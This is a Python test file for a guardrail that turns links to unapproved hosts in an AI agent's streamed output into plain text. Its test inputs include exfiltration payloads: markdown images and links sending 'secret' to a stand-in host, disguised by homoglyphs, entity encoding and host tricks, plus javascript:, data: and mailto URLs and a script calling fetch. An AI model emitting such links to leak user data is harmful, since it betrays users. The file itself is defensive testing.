# ruff: noqa: RUF001 - characters that pass for others are what is tested
"""Links to strangers are made plain text, whichever way they are written and however the stream is cut."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.engine.guardrails import LinkPolicy
from agents.engine.guardrails.links import LinkDefuser, defuse
from tests.agents.guardrails.cuts import cut, pieces_of

POLICY = LinkPolicy.of(hosts=["Hotel.example", "*.partner.example"], passages=["Menu: https://spa.example/menu.pdf."])
STRANGERS = [
    ("![x](https://evil.test/?d=secret)", "![x] (evil.test)"),
    ("[x](https://evil.test/a(b)c 'title')", "[x] (evil.test 'title')"),
    ("[x](//evil.test/secret)", "[x] (evil.test)"),
    ("[x](\\\\evil.test/secret)", "[x] (evil.test)"),
    ("[x](/\\evil.test/secret)", "[x] (evil.test)"),
    ("[x](https:/evil.test/secret)", "[x] (evil.test)"),
    ("[x](https:evil.test/secret)", "[x] (evil.test)"),
    ("[x](https&#58;//evil.test/secret)", "[x] (evil.test)"),
    ("[x](&sol;&sol;evil.test/secret)", "[x] (evil.test)"),
    ("[x](https\\://evil.test/secret)", "[x] (evil.test)"),
    ("[x](\n <https://evil.test/a secret>)", "[x] (evil.test)"),
    ("[x](https://hotel.example@evil.test/secret)", "[x] (evil.test)"),
    ("[x](https://hotel.example.evil.test/secret)", "[x] (hotel.example.evil.test)"),
    ("[x](https://evilhotel.example/secret)", "[x] (evilhotel.example)"),
    ("[x](ｈttps://ｅvil.test/secret)", "[x] (evil.test)"),
    ("[x](https://hotel.example／.evil.test/secret)", "[x] (link)"),
    ("[![a](https://evil.test/1)](https://evil.test/2)", "[![a] (evil.test)] (evil.test)"),
    ("[x][y]\n\n[y]: https://evil.test/secret", "[x][y]\n\n[y] :evil.test"),
    ("[x](javascript:alert(1))", "[x] (link)"),
    ("[x](data:text/html,secret)", "[x] (link)"),
    ("[x](mailto:a@evil.test?body=secret)", "[x] (link)"),
    ("![x](https://spa.example/menu.pdf)", "![x] (spa.example)"),
    ("[x](https://spa.example/menu.pdf?d=secret)", "[x] (spa.example)"),
    ("see https://evil.test/secret.", "see evil.test."),
    ("see www.evil.test/secret, or evil.test/secret", "see www.evil.test, or evil.test"),
    ("看https://evil.test/secret 好 éhttps://evil.test/secret", "看evil.test 好 éevil.test"),
    ("<https://evil.test/secret>", "\u2039evil.test>"),
    ("<img src=//evil.test/secret>", "\u2039img src=//evil.test>"),
    ("<script>fetch('//evil.test')</script>", "\u2039script>fetch('//evil.test')\u2039/script>"),
    ("<svg onload=x>", "\u2039svg onload=x>"),
]
FRIENDS = [
    "[book](https://hotel.example/book?room=1) or [here](/book) [1] [2].",
    "https://www.hotel.example/a and https://x.partner.example/b.",
    "[menu](https://spa.example/menu.pdf), https://spa.example/menu.pdf.",
    "[call](tel:+4312345678) [write](mailto:desk@hotel.example)",
    "Open 9:00/10:00, and/or 3 < 4; e.g. data: none. <b>bold</b><br/> [x] [1]: the spa",
    "![room](https://hotel.example/room.jpg)",
]


@pytest.mark.parametrize(("text", "shown"), STRANGERS)
def test_a_stranger_s_link_is_plain_text(text: str, shown: str) -> None:
    assert defuse(text, POLICY) == shown


@pytest.mark.parametrize("text", FRIENDS)
def test_the_tenant_s_own_links_and_those_of_its_documents_stay(text: str) -> None:
    assert defuse(text, POLICY) == text


@given(text=pieces_of([text for text, _ in STRANGERS] + FRIENDS), cuts=st.lists(st.integers(0, 400)))
def test_it_does_not_depend_on_how_a_stream_is_cut(text: str, cuts: list[int]) -> None:
    defuser = LinkDefuser(POLICY)
    shown = "".join([*(defuser.feed(piece) for piece in cut(text, cuts)), defuser.finish()])
    assert shown == defuse(text, POLICY)


@given(text=pieces_of([text for text, _ in STRANGERS]))
def test_what_was_defused_stays_as_it_is(text: str) -> None:
    once = defuse(text, POLICY)
    assert "https://evil" not in once
    assert "](https://evil" not in defuse(once, POLICY)


def test_a_link_without_an_end_is_no_link() -> None:
    shown = defuse("[x](https://hotel.example/" + "a" * 5000 + ")", POLICY)
    assert "](https" not in shown


def test_prose_and_citations_are_shown_as_they_come() -> None:
    defuser = LinkDefuser(POLICY)
    assert defuser.feed("The spa is open ") == "The spa is open "
    assert defuser.feed("on Sundays [1") == "on Sundays ["
    assert defuser.feed("]. ") == "1]. "
